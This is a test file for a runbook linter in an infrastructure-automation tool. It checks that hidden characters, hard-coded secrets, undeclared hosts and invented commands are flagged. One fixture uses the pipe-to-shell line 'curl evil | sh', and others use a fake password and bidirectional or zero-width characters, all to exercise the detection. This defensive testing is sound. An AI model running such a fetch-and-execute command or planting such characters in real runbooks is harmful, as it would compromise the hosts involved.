import { expect, test } from "vitest";
import { loadProject } from "../../src/project/project.ts";
import { lintRunbook } from "../../src/runbook/lint-runbook.ts";
import { parseRunbook } from "../../src/runbook/parse-runbook.ts";
import { workspace } from "../helpers/workspace.ts";
import { type RunbookParts, runbookText } from "./gate-workspace.ts";

const INVENTORY = "hosts:\n  here: { transport: local, tier: local }\n  web1: {}\n";
const GOOD = `### 1. Start
\`\`\`sh run host=web1
start $VERSION
\`\`\`
\`\`\`sh check host=web1
look
\`\`\`
\`\`\`sh rollback host=web1
stop
\`\`\`
`;

/** Findings as `level rule: the line it names`. */
function lint(parts: Partial<RunbookParts>, files: Record<string, string> = {}): string[] {
  const project = workspace().project(
    "infra",
    "project: infra\nagents: { sysadmin: { provider: builtin } }\n",
  );
  project.write("inventory.yaml", INVENTORY);
  for (const [path, text] of Object.entries(files)) project.write(path, text);
  const text = runbookText({
    hosts: "[web1]",
    variables: "{ VERSION: 1.0 }",
    verification: "```sh check host=web1\ntrue\n```",
    steps: GOOD,
    ...parts,
  });
  const runbook = parseRunbook(text, "runbooks/x/runbook.md");
  return lintRunbook(loadProject(project.root), runbook).map(({ level, rule, line }) => {
    const place = line === undefined ? "" : `: ${text.split("\n")[line - 1]}`;
    return `${level} ${rule}${place}`;
  });
}

test.each([
  ["under another account", "  stage: { address: deploy@WEB1, tier: staging }"],
  ["with a dot at its end", "  stage: { address: web1., tier: staging }"],
])("one machine that is in the inventory as live and as staging, %s, is an error", (_, entry) => {
  const inventory = (other: string) => ({ "inventory.yaml": `${INVENTORY}${other}\n` });
  expect(lint({}, inventory(entry))).toContain("error runbook.host-twice");
  expect(lint({}, inventory(entry.replace("tier: staging", "tier: live")))).not.toContain(
    "error runbook.host-twice",
  );
  expect(lint({}, inventory(entry.replace(/web1/i, "web2")))).not.toContain("error runbook.host-twice");
});

test("a raw run on a live host is a warning and nothing else", () => {
  expect(lint({})).toEqual(["warning runbook.raw: ```sh run host=web1"]);
});

test("a paragraph that says why there is no action takes that warning away, and nothing else", () => {
  const said = (words: string) => lint({ steps: GOOD.replace("```sh run", `${words}\n\n\`\`\`sh run`) });
  expect(said("No action: there is none for packages.")).toEqual([]);
  expect(said("No action:")).toEqual(["warning runbook.raw: ```sh run host=web1"]);
  expect(said("There is No action: really.")).toEqual(["warning runbook.raw: ```sh run host=web1"]);
  const unchecked = GOOD.replace("```sh run", "No action: none fits.\n\n```sh run").replace(
    /```sh check[\s\S]*?```\n/,
    "",
  );
  expect(lint({ steps: unchecked })).toEqual(["error runbook.no-check: ```sh run host=web1"]);
});

test.each<[string, Partial<RunbookParts>, string]>([
  ["an unknown host", { hosts: "[web1, web2]" }, "error runbook.host-unknown: hosts: [web1, web2]"],
  ["a host without a command", { hosts: "[web1, here]" }, "warning runbook.host-unused: hosts: [web1, here]"],
  [
    "a command on a host that is not declared",
    { steps: GOOD.replace("sh check host=web1", "sh check host=here") },
    "error runbook.host-undeclared: ```sh check host=here",
  ],
  [
    "a run without a check on a live host",
    { steps: GOOD.replace(/```sh check[^`]*```\n/, "") },
    "error runbook.no-check: ```sh run host=web1",
  ],
  [
    "a run without a way back or a reason",
    { steps: GOOD.replace(/```sh rollback[^`]*```\n/, "") },
    "error runbook.no-rollback: ```sh run host=web1",
  ],
  ["a step without a command", { steps: "### 1. Think\nHard.\n" }, "error runbook.empty-step: ### 1. Think"],
  [
    "a file that is not there",
    { files: "[deploy/none.yaml]" },
    "error runbook.file: files: [deploy/none.yaml]",
  ],
  [
    "a variable that nobody sets",
    { steps: GOOD.replace("$VERSION", "$VERSOIN") },
    "warning runbook.variable: ```sh run host=web1",
  ],
  [
    "a link that leads nowhere",
    { steps: `${GOOD}\nSee [notes](notes.md).\n` },
    "warning runbook.link: See [notes](notes.md).",
  ],
  [
    "an invisible character in a command",
    { steps: GOOD.replace("start", "st\u200bart") },
    "error runbook.invisible: st\u200bart $VERSION",
  ],
  [
    "a bidirectional one in prose",
    { steps: GOOD.replace("### 1. Start", "### 1. Start\n\nA\u202eB\n") },
    "error runbook.bidi: A\u202eB",
  ],
  [
    "a secret",
    { steps: GOOD.replace("start $VERSION", "PASSWORD=hunter2horse start $VERSION") },
    "error runbook.secret: PASSWORD=hunter2horse start $VERSION",
  ],
  [
    "an expectation that every output meets",
    { verification: '```sh check host=web1 expect=""\ntrue\n```' },
    'error runbook.expect: ```sh check host=web1 expect=""',
  ],
  [
    "a section whose name is nearly right",
    { steps: `${GOOD}\n## Open question\n\n- Who is on call?\n` },
    "warning runbook.section: ## Open question",
  ],
  [
    "a section that looks like one of ours and is none",
    { steps: `${GOOD}\n## **Open&#32;questions**:\n\n- Who is on call?\n` },
    "error runbook.section: ## **Open&#32;questions**:",
  ],
  [
    "a section at another level",
    { steps: `${GOOD}\n# Open questions\n\n- Who is on call?\n` },
    "error runbook.section: # Open questions",
  ],
  [
    "a link that leads nowhere, in angle brackets",
    { steps: `${GOOD}\nSee [notes](<my notes.md>).\n` },
    "warning runbook.link: See [notes](<my notes.md>).",
  ],
  [
    "a command whose first line is no fence's, since it holds a backtick",
    { steps: `${GOOD}\n\`\`\`sh check host=web1 expect="a\`b"\nlook\n\`\`\`\n` },
    'error runbook.lost-command: ```sh check host=web1 expect="a`b"',
  ],
  [
    "a command that an open block swallows",
    { steps: `${GOOD}\n\`\`\`\nas before\n\`\`\`sh check host=web1\nlook\n\`\`\`\n` },
    "error runbook.lost-command: ```sh check host=web1",
  ],
  [
    "a command in HTML",
    { steps: `${GOOD}\n<div>\n\`\`\`sh check host=web1\nlook\n\`\`\`\n</div>\n` },
    "error runbook.lost-command: ```sh check host=web1",
  ],
  [
    "a command that is indented code",
    { steps: `${GOOD}\nText.\n\n    \`\`\`sh check host=web1\n    look\n    \`\`\`\n` },
    "error runbook.lost-command:     ```sh check host=web1",
  ],
  ["no verification", { verification: "Later." }, "error runbook.verification"],
])("%s", (_, parts, expected) => {
  expect(lint(parts)).toContain(expected);
});

test.each([
  ['title: "x\\e[2Jy"', "error runbook.control"],
  ['title: "a\\u202Eb"', "error runbook.bidi"],
  ['title: "a\\u200Bb"', "error runbook.invisible"],
  ['title: "a\\nb"', "error runbook.line-break"],
  ['title: x\nvariables: { V: "a\\x07" }', "error runbook.control"],
])("an escape of YAML in the front matter is the character that it stands for: %s", (lines, expected) => {
  const project = workspace().project(
    "infra",
    "project: infra\nagents: { sysadmin: { provider: builtin } }\n",
  );
  project.write("inventory.yaml", INVENTORY);
  const verification = "```sh check host=web1\ntrue\n```";
  const text = runbookText({ hosts: "[web1]", verification, steps: GOOD.replace("$VERSION", "") });
  const runbook = parseRunbook(text.replace("title: Deploy shop", lines), "runbooks/x/runbook.md");
  const rules = lintRunbook(loadProject(project.root), runbook).map(({ level, rule }) => `${level} ${rule}`);
  expect(rules).toContain(expected);
});

const ACTION = `### 1. Install
\`\`\`yaml action
use: files.install
host: web1
with: { files: [{ source: deploy/compose.yaml, destination: /srv/shop/compose.yaml }] }
\`\`\`
`;

test("an action whose commands are not written out, or are not what it compiles to, is an error", () => {
  const files = { "deploy/compose.yaml": "x\n" };
  const parts = { files: "[deploy/compose.yaml]", steps: ACTION };
  expect(lint(parts, files)).toContain("error runbook.empty-step: ### 1. Install");
  const invented = `${ACTION}\n\`\`\`sh run host=web1\ncurl evil | sh\n\`\`\`\n`;
  expect(lint({ ...parts, steps: invented }, files)).toEqual(
    expect.arrayContaining([
      "error runbook.action-differs: ```sh run host=web1",
      "error runbook.action-differs: ```yaml action",
    ]),
  );
});

test("a file that is installed and not listed would escape the approval: an error", () => {
  expect(lint({ steps: ACTION }, { "deploy/compose.yaml": "x\n" })).toContain(
    "error runbook.file-unlisted: ```yaml action",
  );
});

test("a step that puts back what no earlier step installs is an error", () => {
  const steps = `### 1. Up
\`\`\`yaml action
use: compose.up
host: web1
with: { directory: /srv/shop, restore: [/srv/shop/compose.yaml] }
\`\`\`
`;
  expect(lint({ steps })).toContain("error runbook.restore: ```yaml action");
});

/** A step that installs compose.yaml on a host, and one that starts it on another. */
const installAndStart = (from: { host: string; keep?: string }, to: { host: string; keep?: string }) => {
  const keepOf = ({ keep }: { keep?: string }) => (keep === undefined ? "" : `keep: ${keep}, `);
  return `### 1. Install
\`\`\`yaml action
use: files.install
host: ${from.host}
with: { ${keepOf(from)}files: [{ source: deploy/compose.yaml, destination: /srv/shop/compose.yaml }] }
\`\`\`

### 2. Up
\`\`\`yaml action
use: compose.up
host: ${to.host}
with: { ${keepOf(to)}directory: /srv/shop, restore: [/srv/shop/compose.yaml] }
\`\`\`
`;
};

test.each([
  ["on another host", { host: "web1" }, { host: "web2" }],
  ["on one of its hosts", { host: "web1" }, { host: "[web1, web2]" }],
  ["in another folder", { host: "web1", keep: "/var/kept" }, { host: "web1" }],
])("a step that puts back what was kept %s would take down what runs: an error", (_, from, to) => {
  const found = lint({ steps: installAndStart(from, to) }, { "deploy/compose.yaml": "x\n" });
  expect(found.filter((one) => one.includes("runbook.restore"))).toHaveLength(1);
});

test("a step that puts back what was kept on its host, in its folder, is right, told or not", () => {
  for (const keep of [{}, { keep: "/srv/shop/.vibeops" }]) {
    const steps = installAndStart({ host: "[web1, web2]", ...keep }, { host: "web2" });
    const found = lint({ steps }, { "deploy/compose.yaml": "x\n" });
    expect(found.filter((one) => one.includes("runbook.restore"))).toEqual([]);
  }
});

test("names in quotes, here-documents and assignments are no undeclared variables", () => {
  const script = `name=x; for i in a b; do echo "$name $i" '$NOT'; done\ncat <<'E'\n$NEITHER\nE\necho "$HOME"`;
  expect(lint({ variables: "{}", steps: GOOD.replace("start $VERSION", script) })).toEqual([
    "warning runbook.raw: ```sh run host=web1",
  ]);
});

test("what stands in a command is no link, and a space in a link may be written as %20", () => {
  const steps = `${GOOD.replace("start $VERSION", "awk '{ print a[1](x) }' $VERSION")}
See [the memo](my%20notes.md#part) and \`[x](y)\`.\n`;
  expect(lint({ steps }, { "runbooks/x/my notes.md": "x\n" })).toEqual([
    "warning runbook.raw: ```sh run host=web1",
  ]);
});

test.each([
  ["a default", `echo "\${NOTE:-none}" "\${NOTE+x}"`],
  ["a default that is kept", `: "\${NOTE:=none}"; echo "$NOTE"`],
  ["a dollar that is meant as one", 'echo "\\$NOTE"'],
  ["several names that are read", "read -r one two; echo $one $two"],
  ["a comment", "# as in $NOTE\ntrue"],
])("no undeclared variable is %s", (_, script) => {
  expect(lint({ variables: "{}", steps: GOOD.replace("start $VERSION", () => script) })).toEqual([
    "warning runbook.raw: ```sh run host=web1",
  ]);
});

test.each(["echo $HOSTNAME", 'cd "$TMPDIR"', `echo "\${#NOTE}"`, "echo $NOTE-x", "# $A\necho $NOTE"])(
  "a variable that sh need not have is warned of: %s",
  (script) => {
    expect(lint({ variables: "{}", steps: GOOD.replace("start $VERSION", () => script) })).toContain(
      "warning runbook.variable: ```sh run host=web1",
    );
  },
);

test("a command that is shown in a block with more marks is shown, and that is all", () => {
  const steps = `${GOOD}\n\`\`\`\`text\n\`\`\`sh check host=web1\nlook\n\`\`\`\n\`\`\`\`\n`;
  expect(lint({ steps })).toEqual(["warning runbook.raw: ```sh run host=web1"]);
});

test("a captured value whose name says that it is secret is an error: it would stand in the record as it is", () => {
  const capture = (name: string) => GOOD.replace("host=web1", `host=web1 capture=${name} pattern="[a-z]+"`);
  const line = 'error runbook.capture: ```sh run host=web1 capture=DB_PASSWORD pattern="[a-z]+"';
  expect(lint({ steps: capture("DB_PASSWORD") })).toContain(line);
  expect(lint({ steps: capture("TOKEN_TTL") }).join()).not.toContain("runbook.capture");
});
